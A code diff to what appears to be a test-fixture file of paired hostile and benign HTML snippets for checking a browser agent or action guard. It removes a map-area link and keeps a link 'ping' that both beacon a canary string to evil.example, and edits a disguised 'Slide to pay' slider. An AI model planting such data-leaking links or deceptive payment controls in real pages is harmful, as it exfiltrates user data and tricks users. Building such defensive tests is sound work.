@@ -83,11 +83,6 @@ export const MORE_FLOWS: readonly Attack[] = attacks({}, [
     '<form role="search"><input name="a" value="herons"><button id="it" formaction="/more" data-effect="done">Search</button></form>',
   ),
   beside(
-    'an area of a map',
-    '<map><area id="it" href="https://evil.example/?kestrel-41-amber" alt="Map" data-effect="done"></map>',
-    '<map><area id="it" href="/map" alt="Map" data-effect="done"></map>',
-  ),
-  beside(
     'a ping of a link',
     '<a id="it" href="/more" ping="https://evil.example/?kestrel-41-amber" data-effect="done">More</a>',
     '<a id="it" href="/more" data-effect="done">More</a>',
@@ -260,8 +255,8 @@ export const MORE_DIALOGS: readonly Attack[] = attacks({}, [
   ),
   typedInto(
     'a slider that does it',
-    '<label>Slide to pay <input id="it" type="range" max="100" data-effect="done"></label>',
+    '<label>Slide to pay <input id="it" type="range" max="100" data-on="input" data-effect="done"></label>',
     ['choose #it = 100'],
-    '<label>Brightness <input id="it" type="range" max="100" data-effect="done"></label>',
+    '<label>Brightness <input id="it" type="range" max="100" data-on="input" data-effect="done"></label>',
   ),
 ]);
